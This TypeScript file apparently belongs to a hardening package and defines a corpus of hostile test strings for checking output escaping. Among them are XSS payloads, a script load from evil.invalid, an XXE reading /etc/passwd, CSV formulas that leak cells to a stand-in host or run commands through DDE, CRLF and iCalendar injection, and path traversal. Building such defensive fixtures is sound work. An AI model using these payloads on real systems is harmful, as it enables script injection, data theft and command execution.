/** Where a payload does harm if it is copied through unescaped. */
export type HostileContext = 'html' | 'xml' | 'url' | 'csv' | 'ics' | 'json' | 'path' | 'text' | 'parser'

/** One named piece of hostile content. */
export interface HostilePayload {
  /** Kebab-case name, stable across versions (example: `'script-tag'`). */
  name: string
  /** The content itself. */
  value: string
  /** Output formats or layers it attacks. */
  contexts: HostileContext[]
  /** What goes wrong if it gets through, in one sentence. */
  why: string
}

const c0 = Array.from({length: 0x20}, (_, code) => String.fromCharCode(code)).join('')
const c1 = Array.from({length: 0x21}, (_, index) => String.fromCharCode(0x7f + index)).join('')
// 10 kB without a break opportunity: breaks layouts, line folding (ICS 75 octets) and naive regexes.
const longWord = 'Pneumonoultramicroscopicsilicovolcanoconiosis'.repeat(228).slice(0, 10_240)

/**
 * The shared corpus of hostile strings: markup and script injection, XML
 * breakers, dangerous URLs, control and non-characters, unpaired surrogates,
 * bidirectional overrides, CSV formulas, CRLF and iCalendar injection, path
 * traversal and sizes that break layouts. `fixtures/hostile/strings.json` is
 * generated from this list (`pnpm --filter @sironet/hardening generate`).
 */
export const hostilePayloads: readonly HostilePayload[] = [
  {name: 'script-tag', value: '<script>alert(1)</script>', contexts: ['html', 'xml'], why: 'Runs script if inserted as HTML.'},
  {
    name: 'script-mixed-case-src',
    value: '<ScRiPt src=//evil.invalid/x.js></sCrIpT>',
    contexts: ['html'],
    why: 'Loads a third-party script; mixed case defeats naive filters.'
  },
  {
    name: 'attribute-breakout-img',
    value: '"><img src=x onerror=alert(1)>',
    contexts: ['html', 'xml'],
    why: 'Closes a double-quoted attribute and adds an element with an event handler.'
  },
  {name: 'attribute-breakout-single', value: "' onmouseover='alert(1)' x='", contexts: ['html'], why: 'Closes a single-quoted attribute and adds a handler.'},
  {name: 'svg-onload', value: '<svg onload=alert(1)>', contexts: ['html'], why: 'Runs script when the SVG is parsed.'},
  {name: 'svg-script', value: '<svg><script>alert(1)</script></svg>', contexts: ['html', 'xml'], why: 'Script inside foreign content.'},
  {name: 'iframe-srcdoc', value: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', contexts: ['html'], why: 'Nested document with script.'},
  {name: 'style-url-javascript', value: '<style>body{background:url("javascript:alert(1)")}</style>', contexts: ['html'], why: 'CSS that loads or runs something.'},
  {name: 'meta-refresh', value: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', contexts: ['html'], why: 'Redirects the page.'},
  {name: 'base-href', value: '<base href="//evil.invalid/">', contexts: ['html'], why: 'Re-points every relative link of the page.'},
  {name: 'closing-tags', value: '</title></textarea></style></script></noscript><b>', contexts: ['html'], why: 'Escapes raw-text elements that someone filled with content.'},
  {name: 'html-comment', value: '<!-- x --><!--<script>alert(1)//-->', contexts: ['html', 'xml'], why: 'Comments and half-comments confuse sanitizers.'},
  {name: 'javascript-url', value: 'javascript:alert(1)', contexts: ['url', 'html'], why: 'Runs script when used as a link.'},
  {name: 'javascript-url-obfuscated', value: ' JaVa\tScRiPt:alert(1)', contexts: ['url', 'html'], why: 'Leading space, tab and case defeat prefix checks.'},
  {name: 'javascript-url-entity', value: '&#106;avascript:alert(1)', contexts: ['url', 'html'], why: 'Becomes javascript: once entities are decoded.'},
  {name: 'data-url-html', value: 'data:text/html,<script>alert(1)</script>', contexts: ['url'], why: 'A link to a document with script.'},
  {name: 'data-url-base64', value: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', contexts: ['url'], why: 'The same, base64-encoded.'},
  {name: 'vbscript-url', value: 'vbscript:msgbox(1)', contexts: ['url'], why: 'Legacy script scheme.'},
  {name: 'url-with-markup', value: 'https://example.org/?q="><script>alert(1)</script>', contexts: ['url', 'html', 'xml'], why: 'A real-looking link that breaks out of an attribute.'},
  {name: 'markdown-link', value: '[click](javascript:alert(1))', contexts: ['html'], why: 'Dangerous if content is ever rendered as Markdown.'},
  {name: 'cdata-end', value: ']]>', contexts: ['xml'], why: 'Ends a CDATA section early: the rest is parsed as markup.'},
  {name: 'cdata-section', value: '<![CDATA[<script>alert(1)</script>]]>', contexts: ['xml', 'html'], why: 'Smuggles markup past escaping that trusts CDATA.'},
  {name: 'xml-comment-end', value: '--> <!--', contexts: ['xml'], why: 'Breaks out of an XML comment.'},
  {name: 'processing-instruction', value: '<?xml-stylesheet href="evil.xsl"?>', contexts: ['xml'], why: 'Attaches a stylesheet to a feed.'},
  {
    name: 'xml-external-entity',
    value: '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    contexts: ['xml', 'parser'],
    why: 'Reads local files if any parser expands entities.'
  },
  {name: 'xslt-injection', value: '<xsl:value-of select="document(\'/etc/passwd\')"/>', contexts: ['xml'], why: 'Runs in a feed’s XSL view if copied unescaped.'},
  {name: 'ampersand-bare', value: 'AT&T R&D Q&A', contexts: ['xml', 'html'], why: 'An unescaped & makes XML ill-formed.'},
  {name: 'ampersand-double-escaped', value: '&amp;amp; &amp;lt;b&amp;gt;', contexts: ['xml', 'html'], why: 'Must stay as written: no double decoding.'},
  {name: 'escaped-markup', value: '&lt;script&gt;alert(1)&lt;/script&gt;', contexts: ['html', 'xml'], why: 'Text that becomes markup if decoded twice.'},
  {name: 'html-only-entity', value: '&nbsp;&eacute;&hellip;', contexts: ['xml'], why: 'HTML entities are undefined in XML.'},
  {name: 'invalid-char-reference', value: '&#0; &#xD800; &#x110000;', contexts: ['xml', 'html'], why: 'Character references to characters that cannot exist.'},
  {name: 'c0-controls', value: c0, contexts: ['xml', 'csv', 'ics', 'json', 'text'], why: 'U+0000–U+001F: most are not allowed in XML 1.0 at all.'},
  {name: 'nul-in-word', value: 'Bei\u0000jing', contexts: ['xml', 'csv', 'text', 'parser'], why: 'NUL truncates C strings and is illegal in XML.'},
  {name: 'c1-controls', value: c1, contexts: ['xml', 'text'], why: 'DEL and U+0080–U+009F: discouraged in XML, invisible in HTML.'},
  {name: 'noncharacters', value: 'a\uFFFEb\uFFFFc\uFDD0d', contexts: ['xml', 'text'], why: 'U+FFFE and U+FFFF are not allowed in XML.'},
  {name: 'lone-high-surrogate', value: 'a\uD800b', contexts: ['xml', 'json', 'text'], why: 'Not encodable as UTF-8; XML serializers must drop or replace it.'},
  {name: 'lone-low-surrogate', value: 'a\uDC00b', contexts: ['xml', 'json', 'text'], why: 'Not encodable as UTF-8.'},
  {name: 'reversed-surrogates', value: '\uDC00\uD800', contexts: ['xml', 'json', 'text'], why: 'Two unpaired surrogates in the wrong order.'},
  {name: 'rtl-override', value: 'invoice\u202Egnp.exe', contexts: ['html', 'text', 'path'], why: 'U+202E reverses what follows: shows as “invoiceexe.png”.'},
  {name: 'bidi-isolates-unclosed', value: '\u2067\u2066\u2068abc', contexts: ['html', 'text'], why: 'Unclosed isolates spill direction into the page around them.'},
  {name: 'bidi-marks', value: '\u200E\u200F\u061C', contexts: ['text'], why: 'Invisible direction marks inside names.'},
  {name: 'zero-width', value: 'Bei\u200Bji\u200Cng\u200D\u2060\uFEFF', contexts: ['text', 'parser'], why: 'Invisible characters split words and defeat matching.'},
  {name: 'line-separators', value: 'a\u2028b\u2029c\u0085d', contexts: ['json', 'html', 'text'], why: 'Line breaks that old JavaScript string literals reject.'},
  {name: 'json-script-close', value: '</script><script>alert(1)</script>', contexts: ['json', 'html'], why: 'Ends an inline <script> holding JSON.'},
  {name: 'json-breakout', value: '"}],"injected":true,"x":[{"', contexts: ['json'], why: 'Breaks JSON built by string concatenation.'},
  {name: 'template-injection', value: '{{constructor.constructor(\'alert(1)\')()}} ${alert(1)} <%= 7*7 %>', contexts: ['html'], why: 'Template syntax evaluated by client frameworks.'},
  {name: 'prototype-keys', value: '__proto__', contexts: ['json', 'parser'], why: 'As an object key it can pollute prototypes.'},
  {name: 'crlf-injection', value: 'Title\r\nBcc: x@evil.invalid\r\n\r\n<script>alert(1)</script>', contexts: ['text', 'html', 'ics', 'csv'], why: 'Injects header lines or records.'},
  {
    name: 'ics-injection',
    value: 'Meeting\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected\r\nDTSTART:20180101',
    contexts: ['ics'],
    why: 'Adds a calendar event if lines are not escaped.'
  },
  {name: 'ics-special-characters', value: 'Semi; colon, comma \\ backslash \\n', contexts: ['ics'], why: 'Must be escaped in iCalendar TEXT values.'},
  {
    name: 'csv-formula-hyperlink',
    value: '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click for details")',
    contexts: ['csv'],
    why: 'A spreadsheet runs formulas at the start of a cell.'
  },
  {name: 'csv-formula-dde', value: "+cmd|' /C calc'!A0", contexts: ['csv'], why: 'DDE command execution in old spreadsheets.'},
  {name: 'csv-formula-minus', value: '-2+3+cmd|\' /C calc\'!A0', contexts: ['csv'], why: 'A leading minus also starts a formula.'},
  {name: 'csv-formula-at', value: '@SUM(1+1)*cmd|\' /C calc\'!A0', contexts: ['csv'], why: 'A leading @ also starts a formula.'},
  {name: 'csv-formula-tab', value: '\t=1+1', contexts: ['csv'], why: 'A leading tab or CR before = still runs in some spreadsheets.'},
  {name: 'csv-quote-breakout', value: 'a","b\r\n=1+1,"c', contexts: ['csv'], why: 'Breaks quoting and starts a new row with a formula.'},
  {name: 'path-traversal', value: '../../../etc/passwd', contexts: ['path'], why: 'Escapes the output folder if used in a file name.'},
  {name: 'path-traversal-windows', value: '..\\..\\Windows\\win.ini', contexts: ['path'], why: 'The same with backslashes.'},
  {name: 'reserved-file-names', value: 'CON', contexts: ['path'], why: 'Reserved device name on Windows.'},
  {name: 'long-word', value: longWord, contexts: ['html', 'ics', 'text', 'parser'], why: 'A 10 kB word without break opportunities.'},
  {name: 'combining-overload', value: 'Z' + '\u0336\u0301\u0300\u0302'.repeat(75), contexts: ['html', 'text'], why: 'Hundreds of combining marks on one letter.'},
  {name: 'emoji-sequences', value: '👩‍👩‍👧‍👦 🏳️‍🌈 🇨🇳 👍🏽', contexts: ['text', 'xml'], why: 'Astral characters and ZWJ sequences must not be split.'},
  {name: 'nested-markup', value: '<b>'.repeat(2000) + 'deep' + '</b>'.repeat(2000), contexts: ['html', 'parser'], why: 'Deep nesting overflows recursive tree walkers.'},
  {name: 'unicode-spaces', value: 'a\u00A0b\u3000c\u2003d\u205Fe', contexts: ['text', 'parser'], why: 'Spaces that \\s matches but ASCII code does not.'},
  {name: 'huge-number', value: 'More than 999999999999999999999 people', contexts: ['parser'], why: 'Overflows integer headcounts.'},
  {name: 'impossible-dates', value: 'On February 30, 2018 and from June 14 to 5 and on 31 April', contexts: ['parser'], why: 'Dates that do not exist or run backwards.'}
]
